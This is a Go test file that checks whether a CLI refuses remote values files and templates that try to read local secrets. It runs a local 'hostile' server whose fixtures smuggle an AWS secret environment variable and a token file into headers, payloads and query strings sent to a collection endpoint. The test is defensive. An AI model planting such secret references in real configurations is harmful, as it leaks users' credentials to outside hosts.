package main

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
)

// hostile is a server on 127.0.0.1 that serves values files and templates
// which point the experiment back at itself, and records every other request
// it receives: what a hostile values or template author would collect.
type hostile struct {
	srv   *httptest.Server
	files map[string]string
	mu    sync.Mutex
	got   []string // method, path, query and X-Trace header of each collected request
}

func newHostile(t *testing.T, files func(url string) map[string]string) *hostile {
	t.Helper()
	h := &hostile{}
	h.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if text, ok := h.files[r.URL.Path]; ok {
			_, _ = w.Write([]byte(text))
			return
		}
		body := make([]byte, 4096)
		n, _ := r.Body.Read(body)
		h.mu.Lock()
		h.got = append(h.got, fmt.Sprintf("%s %s?%s X-Trace=%s body=%s", r.Method, r.URL.Path, r.URL.RawQuery, r.Header.Get("X-Trace"), body[:n]))
		h.mu.Unlock()
		_, _ = w.Write([]byte(`{"v": 1}`))
	}))
	t.Cleanup(h.srv.Close)
	h.files = files(h.srv.URL)
	return h
}

func (h *hostile) collected() string {
	h.mu.Lock()
	defer h.mu.Unlock()
	return strings.Join(h.got, "\n")
}

// Values and provider templates fetched from a URL cannot read local
// secrets or files outside the run directory unless the command line says
// --allow-local-secrets: the refusal is exit 2 (values) or a failed task
// (templates), names the value and its source, and nothing reaches the
// hostile server. With the flag the same experiments run.
func TestRemoteContentCannotReadLocalSecrets(t *testing.T) {
	needBinary(t)
	t.Parallel()
	const envSecret = "aws-s3cr3t-from-env"
	const fileSecret = "sa-t0ken-from-file"
	secretDir := t.TempDir()
	secretFile := filepath.Join(secretDir, "token")
	if err := os.WriteFile(secretFile, []byte(fileSecret+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	env := []string{"AWS_SECRET_ACCESS_KEY=" + envSecret}
	h := newHostile(t, func(url string) map[string]string {
		return map[string]string{
			"/env.yaml":     "tasks: [http]\nhttp:\n  url: " + url + "/collect\n  numRequests: 1\n  headers: {X-Trace: \"${env:AWS_SECRET_ACCESS_KEY}\"}\n",
			"/file.yaml":    "tasks: [http]\nhttp:\n  url: " + url + "/collect\n  numRequests: 1\n  payloadFile: " + secretFile + "\n",
			"/parent.yaml":  "tasks: [http]\nhttp:\n  url: " + url + "/collect\n  numRequests: 1\n  payloadFile: ../" + filepath.Base(secretDir) + "/token\n",
			"/escaped.yaml": "tasks: [http]\nhttp:\n  url: " + url + "/collect\n  numRequests: 1\n  headers: {X-Trace: \"$${env:AWS_SECRET_ACCESS_KEY}\"}\n",
			"/evil.tpl":     "url: " + url + "/query\nmetrics:\n- name: x\n  type: gauge\n  params: [{name: t, value: '${file:" + secretFile + "}'}]\n  jqExpression: .v\n",
		}
	})
	u := h.srv.URL

	refusals := []struct {
		name, values, want string
	}{
		{"env reference", "/env.yaml", `task 1 (http) input headers.X-Trace: "${env:AWS_SECRET_ACCESS_KEY}" is a secret reference and the values come from ` + u + "/env.yaml"},
		{"absolute path", "/file.yaml", `task 1 (http) input payloadFile: "` + secretFile + `" is a file path outside the run directory and the values come from ` + u + "/file.yaml"},
		{"parent path", "/parent.yaml", `task 1 (http) input payloadFile: "../` + filepath.Base(secretDir) + `/token" is a file path outside the run directory`},
	}
	for _, tc := range refusals {
		t.Run(tc.name, func(t *testing.T) {
			dir := filepath.Join(t.TempDir(), "run")
			if err := os.Mkdir(dir, 0o755); err != nil {
				t.Fatal(err)
			}
			for _, cmd := range []string{"gen", "launch"} {
				r := iter8Env(t, dir, env, cmd, "-f", u+tc.values)
				if r.code != 2 || !strings.Contains(r.stderr, tc.want) || !strings.Contains(r.stderr, "--allow-local-secrets") {
					t.Errorf("%s: exit %d, stderr %s", cmd, r.code, r.stderr)
				}
				if strings.Count(strings.TrimSpace(r.stderr), "\n") != 0 {
					t.Errorf("%s: the reason is not one line: %s", cmd, r.stderr)
				}
			}
			if _, err := os.Stat(filepath.Join(dir, "experiment.yaml")); !os.IsNotExist(err) {
				t.Errorf("experiment.yaml was written: %v", err)
			}
		})
	}

	t.Run("a remote template's file reference", func(t *testing.T) {
		dir := t.TempDir()
		r := iter8Env(t, dir, env, "launch", "--set", "tasks={custommetrics}", "--set", "custommetrics.templates.evil="+u+"/evil.tpl")
		want := "provider evil: template " + u + "/evil.tpl came from a URL and renders the secret reference ${file:" + secretFile + "}"
		// bad input (exit 2) naming the reference and the template's URL;
		// the experiment records why it failed
		if r.code != 2 || !strings.Contains(r.stderr, want) || !strings.Contains(mustRead(t, filepath.Join(dir, "experiment.yaml")), "came from a URL and renders the secret reference") {
			t.Errorf("exit %d, stderr %s", r.code, r.stderr)
		}
	})

	if got := h.collected(); got != "" {
		t.Fatalf("the hostile server received requests without --allow-local-secrets:\n%s", got)
	}

	t.Run("a literal ${ escaped as $${ is not a reference", func(t *testing.T) {
		r := iter8Env(t, t.TempDir(), env, "gen", "-f", u+"/escaped.yaml")
		if r.code != 0 {
			t.Errorf("exit %d, stderr %s", r.code, r.stderr)
		}
	})

	t.Run("--allow-local-secrets permits them", func(t *testing.T) {
		r := iter8Env(t, t.TempDir(), env, "launch", "-f", u+"/env.yaml", "--allow-local-secrets")
		if r.code != 0 {
			t.Errorf("values: exit %d, stderr %s", r.code, r.stderr)
		}
		if got := h.collected(); !strings.Contains(got, "X-Trace="+envSecret) {
			t.Errorf("the request did not carry the secret the user allowed: %s", got)
		}
		r = iter8Env(t, t.TempDir(), env, "launch", "--allow-local-secrets", "--set", "tasks={custommetrics}", "--set", "custommetrics.templates.evil="+u+"/evil.tpl")
		if r.code != 0 {
			t.Errorf("template: exit %d, stderr %s", r.code, r.stderr)
		}
		if got := h.collected(); !strings.Contains(got, "t="+fileSecret) {
			t.Errorf("the query did not carry the secret the user allowed: %s", got)
		}
	})
}
